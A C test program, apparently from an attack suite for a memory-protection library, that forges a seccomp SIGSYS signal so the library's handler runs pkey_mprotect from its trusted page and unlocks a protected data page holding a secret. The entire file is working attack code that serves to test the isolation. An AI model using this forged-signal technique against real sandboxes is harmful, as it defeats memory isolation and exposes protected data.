/* A forged SIGSYS: the main thread sends the process a SIGSYS dressed as
 * a seccomp trap (rt_sigqueueinfo: si_code SYS_SECCOMP, any si_errno, the
 * system call pkey_mprotect), delivered to a thread that waits with the
 * call's arguments in its registers (the library's data page, key 0), in
 * the hope that libprotect's handler makes the call from its trusted page.
 * Every reason code the filter uses is tried.  forged_sigsys */
#define _GNU_SOURCE
#include "attack.h"

#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>

static volatile long done;
static volatile pid_t waiter_tid;

static void own_sigsys(int sig) {} /* the program's own handler: it survives every try */
static void *page;

/* Waits with rdi..r10 holding pkey_mprotect(page, 4096, RW, 0). */
static void *waiter(void *unused)
{
    waiter_tid = gettid();
    __asm__ volatile("mov %0, %%rdi\n mov $4096, %%esi\n mov %1, %%edx\n xor %%r10d, %%r10d\n"
                     "1: cmpq $0, %2\n je 1b"
                     ::"r"(page), "i"(PROT_READ | PROT_WRITE), "m"(done) : "rdi", "rsi", "rdx", "r10", "memory");
    return NULL;
}

int main(void)
{
    vault_open();
    struct vault_cell *cell = vault_address(VAULT_DATA);
    page = (void *)((uintptr_t)cell & ~4095ul);
    signal(SIGSYS, own_sigsys);
    pthread_t t;
    pthread_create(&t, NULL, waiter, NULL);
    uint64_t sys = 1ull << (SIGSYS - 1);
    syscall(SYS_rt_sigprocmask, SIG_BLOCK, &sys, NULL, 8);
    while (!waiter_tid)
        usleep(1000);
    usleep(10 * 1000);
    int sent = 0;
    for (int reason = 1; reason < 16; reason++) {
        siginfo_t si = {0};
        si.si_signo = SIGSYS;
        si.si_code = 1; /* SYS_SECCOMP */
        si.si_errno = reason;
        si.si_syscall = SYS_pkey_mprotect;
        si.si_arch = 0xc000003e; /* AUDIT_ARCH_X86_64 */
        si.si_call_addr = (void *)waiter;
        sent += syscall(SYS_rt_sigqueueinfo, getpid(), SIGSYS, &si) == 0;
        usleep(10 * 1000);
    }
    done = 1;
    syscall(SYS_rt_sigprocmask, SIG_UNBLOCK, &sys, NULL, 8);
    pthread_join(t, NULL);
    if (!sent)
        blocked_errno("rt_sigqueueinfo");
    read_secret_at(VAULT_DATA, cell->secret); /* faults if the page kept its key */
}
